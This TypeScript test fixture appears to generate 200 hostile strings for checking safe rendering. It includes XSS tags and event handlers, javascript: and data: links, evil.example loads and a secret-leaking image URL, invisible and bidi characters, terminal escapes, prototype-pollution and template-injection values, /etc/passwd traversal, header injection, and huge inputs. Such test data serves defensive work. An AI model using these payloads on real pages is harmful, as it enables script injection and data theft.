/** Texts that try to become markup, to hide, or to take the page's time. */

const MARKUP = [
  "<script>PAYLOAD</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=PAYLOAD>",
  "<img src=https://evil.example/i.png>",
  "<svg onload=PAYLOAD><circle r=9></svg>",
  "<svg><script>PAYLOAD</script></svg>",
  "<iframe srcdoc='<script>PAYLOAD</script>'></iframe>",
  "<iframe src=javascript:PAYLOAD></iframe>",
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input autofocus onfocus=PAYLOAD></form>",
  "<video poster=https://evil.example/p.png><source onerror=PAYLOAD></video>",
  "<details open ontoggle=PAYLOAD>x</details>",
  "<a href=javascript:PAYLOAD>x</a>",
  "<math><mtext><script>PAYLOAD</script></mtext></math>",
  "<template><script>PAYLOAD</script></template>",
  "<!--><script>PAYLOAD</script>-->",
  "<![CDATA[<script>PAYLOAD</script>]]>",
  "</span></p></div><script>PAYLOAD</script>",
  '"><script>PAYLOAD</script>',
  "' onmouseover='PAYLOAD",
  '" style="background:url(https://evil.example)" x="',
  "<body onload=PAYLOAD>",
  "<p onclick=PAYLOAD style=position:fixed;inset:0>cover</p>",
  "&lt;script&gt;PAYLOAD&lt;/script&gt;",
  '<noscript><p title="</noscript><img src=x onerror=PAYLOAD>">',
];
const MARKDOWN = [
  "![x](https://evil.example/i.png?secret)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "![x](javascript:PAYLOAD)",
  "[x](javascript:PAYLOAD)",
  "[x](JaVaScRiPt:PAYLOAD)",
  "[x](java\tscript:PAYLOAD)",
  "[x](&#106;avascript:PAYLOAD)",
  "[x](data:text/html,<script>PAYLOAD</script>)",
  "[x](vbscript:PAYLOAD)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example)",
  "[x](/api/v1/session)",
  "[https://good.example](https://evil.example)",
  "[x](https://good.example@evil.example)",
  "<javascript:PAYLOAD>",
  "[x]: javascript:PAYLOAD\n\n[x]",
  "![a][b]\n\n[b]: https://evil.example/i.png",
  "[![x](https://evil.example/i.png)](javascript:PAYLOAD)",
  "```\n</code></pre><script>PAYLOAD</script>\n```",
  "```<script>PAYLOAD</script>\nx\n```",
  "`</code><script>PAYLOAD</script>`",
  "| a |\n|---|\n| <img src=x onerror=PAYLOAD> |",
  "# <script>PAYLOAD</script>",
  "> <img src=x onerror=PAYLOAD>",
  "- <svg onload=PAYLOAD>",
  "<https://evil.example/?a=<script>>",
  "[x](https://evil.example 'title\" onclick=\"PAYLOAD')",
  "**<b onclick=PAYLOAD>x</b>**",
];
const HIDDEN = [
  "\u001b]0;owned\u0007\u001b[2J\u202e\u200bharm",
  "rm \u202egnp.exe",
  "\u2066invisible\u2069 \u2067direction\u2069",
  "a\u200bb\u200cc\u200dd\ufeffe",
  "\u{e0041}\u{e0042}\u{e0043} tags",
  "\u0000\u0001\u0008\u007f\u009b31m",
  "line\u2028separator\u2029paragraph",
  "\u115f\u3164\uffa0 fillers",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324".repeat(40),
  "\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
];
const VALUES = [
  "{{constructor.constructor('PAYLOAD')()}}",
  "${PAYLOAD}",
  "{@html '<script>PAYLOAD</script>'}",
  "javascript:PAYLOAD",
  "__proto__",
  "constructor",
  '{"__proto__":{"polluted":true}}',
  '{"a":"<img src=x onerror=PAYLOAD>"}',
  "../../../etc/passwd",
  "%00%0d%0aSet-Cookie:x=1",
  "#login=0000",
  "#/letters/tool.invoke",
  "NaN",
  "\ud800 lone surrogate",
];

/** Code that a payload runs if it can. */
export const PWNED = "window.pwned=1;alert(1)";

/** Returns 200 payloads. The last ones are large. */
export function hostileTexts(): string[] {
  const large = [
    "x".repeat(1024 * 1024),
    "<b>".repeat(20_000),
    `${"[".repeat(127)}${"]".repeat(127)}`,
    `${'{"a":'.repeat(126)}1${"}".repeat(126)}`,
    "\n".repeat(20_000),
    "> ".repeat(5_000),
    "\u202e".repeat(10_000),
    "👩‍💻".repeat(5_000),
  ];
  const seeds = [...MARKUP, ...MARKDOWN, ...HIDDEN, ...VALUES];
  const around = [
    (text: string) => text,
    (text: string) => `word ${text} word`,
    (text: string) => `"${text}'\n\n${text}`,
  ];
  const texts = around.flatMap((wrap) => seeds.map(wrap)).map((text) => text.replaceAll("PAYLOAD", PWNED));
  return [...texts.slice(0, 200 - large.length), ...large];
}
